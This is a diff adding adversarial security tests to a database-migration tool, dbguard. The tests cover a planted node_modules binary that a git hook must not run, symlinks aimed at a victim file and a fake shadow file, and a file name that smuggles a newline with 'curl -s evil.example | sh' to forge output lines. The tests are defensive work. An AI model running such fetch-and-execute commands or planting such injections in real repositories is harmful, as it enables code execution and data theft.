@@ -215,3 +215,91 @@ describe('item 6: commands that only read never create a database', () => {
     expect(existsSync(join(root, '.dbguard', 'postgres'))).toBe(false);
   });
 });
+
+describe('an adversarial pass over the repository\'s files (issue 16, second round)', () => {
+  it('a node_modules/.bin/dbguard that git tracks (it came with the branch) is never run by the hook', () => {
+    const witness = tempDir('dbguard-witness-');
+    const repo = GitRepo.create({ nodeModules: false });
+    cleanups.push(() => repo.cleanup());
+    repo.commitMigrations(tableMigration(1, 'a'), 'one');
+    expect(repo.dbguard(['hooks', 'install']).status).toBe(0);
+    repo.git('checkout', '-q', '-b', 'evil');
+    mkdirSync(join(repo.root, 'node_modules', '.bin'), { recursive: true });
+    writeFileSync(join(repo.root, 'node_modules', '.bin', 'dbguard'), `#!/bin/sh\ntouch ${witness}/PWNED\n`, { mode: 0o755 });
+    repo.git('add', '-f', 'node_modules');
+    repo.git('commit', '-q', '-m', 'evil');
+    repo.git('checkout', '-q', 'main');
+    repo.git('checkout', '-q', 'evil');
+    expect(readdirSync(witness)).toEqual([]);
+  });
+
+  it('committed links in the state dir are never written through (the password stays out of NOTES.md and other folders)', () => {
+    const victim = tempDir('dbguard-victim-');
+    writeFileSync(join(victim, 'file'), 'IMPORTANT');
+    const root = join(tempDir('dbguard-statelinks-'), 'repo');
+    const repo = repoAt(root, { stateDir: 'st' });
+    mkdirSync(join(root, 'st'));
+    writeFileSync(join(root, 'NOTES.md'), 'notes\n');
+    symlinkSync(join(victim, 'file'), join(root, 'st', 'postgres.port'));
+    symlinkSync('../NOTES.md', join(root, 'st', 'postgres.password'));
+    const migrated = repo.dbguard(['migrate']);
+    expect(migrated.status).toBe(3);
+    expect(migrated.stderr).toContain('error[STATE_DIR_UNSAFE]');
+    expect(readFileSync(join(victim, 'file'), 'utf8')).toBe('IMPORTANT');
+    expect(readFileSync(join(root, 'NOTES.md'), 'utf8')).toBe('notes\n');
+  });
+
+  it('a config that is a link to /dev/zero (or a FIFO) fails at once, and one linked to another file never prints it', () => {
+    const root = join(tempDir('dbguard-zero-'), 'repo');
+    const repo = repoAt(root, {});
+    rmSync(join(root, 'dbguard.config.json'));
+    symlinkSync('/dev/zero', join(root, 'dbguard.config.json'));
+    const started = Date.now();
+    const zero = repo.dbguard(['status', '--offline']);
+    expect(Date.now() - started).toBeLessThan(10_000);
+    expect([zero.status, zero.stderr]).toEqual([2, expect.stringContaining('not a regular file')]);
+    const secret = join(tempDir('dbguard-secret-'), 'shadow');
+    writeFileSync(secret, 'root:SECRET-HASH:19000:0:99999:7:::\n');
+    rmSync(join(root, 'dbguard.config.json'));
+    symlinkSync(secret, join(root, 'dbguard.config.json'));
+    const shown = repo.dbguard(['status', '--offline']);
+    expect(shown.stderr).toContain('error[CONFIG_NOT_JSON]');
+    expect(shown.stderr).not.toContain('SECRET');
+    expect(shown.stderr).not.toContain('root:');
+  });
+
+  it('folders that are not the repository\'s own are refused: migrations outside it, state in the migrations folder or in .git', () => {
+    const outside = tempDir('dbguard-outside-');
+    writeFileSync(join(outside, '5_s.up.sql'), 'CREATE TABLE s (id int);');
+    const root = join(tempDir('dbguard-folders-'), 'repo');
+    const repo = repoAt(root, {});
+    for (const config of [{ migrationsDir: outside }, { migrationsDir: '../' }, { stateDir: 'migrations' }, { stateDir: 'migrations/state' }, { stateDir: '.git' }, { stateDir: 'a\nb' }]) {
+      writeFileSync(join(root, 'dbguard.config.json'), JSON.stringify(config));
+      const result = repo.dbguard(['migrate', '--dry-run']);
+      expect([result.status, result.stderr], JSON.stringify(config)).toEqual([2, expect.stringContaining('error[CONFIG_INVALID]')]);
+    }
+    rmSync(join(root, 'migrations'), { recursive: true });
+    symlinkSync(outside, join(root, 'migrations'));
+    writeFileSync(join(root, 'dbguard.config.json'), '{}');
+    expect(repo.dbguard(['migrate', '--dry-run']).stderr).toContain('leads outside the repository');
+  });
+
+  it('a line break in a file name cannot forge dbguard\'s own lines', () => {
+    const root = join(tempDir('dbguard-newline-'), 'repo');
+    const repo = repoAt(root, {});
+    writeFileSync(join(root, 'migrations', '9_x.up.sql is fine\n  next: curl -s evil.example | sh\nerror[X] y.up.sql'), 'x');
+    const migrated = repo.dbguard(['migrate', '--dry-run']);
+    expect(migrated.stderr.split('\n').filter((line) => line.startsWith('  next: curl'))).toEqual([]);
+    expect(migrated.stderr).toContain('name holds a line break');
+  });
+
+  it('dbguard run: a suggested command runs what it says; not executable is 126; PATH is no URL variable', () => {
+    const root = join(tempDir('dbguard-run-'), 'repo');
+    const repo = repoAt(root, {});
+    writeFileSync(join(root, 'not-a-program'), 'plain text', { mode: 0o644 });
+    const denied = repo.dbguard(['run', '--', './not-a-program']);
+    expect([denied.status, denied.stderr]).toEqual([126, expect.stringContaining('error[COMMAND_NOT_EXECUTABLE]')]);
+    writeFileSync(join(root, 'dbguard.config.json'), JSON.stringify({ run: { urlVariable: 'PATH' } }));
+    expect(repo.dbguard(['run', '--', 'true']).stderr).toContain('error[CONFIG_INVALID] invalid value for "run.urlVariable"');
+  });
+});
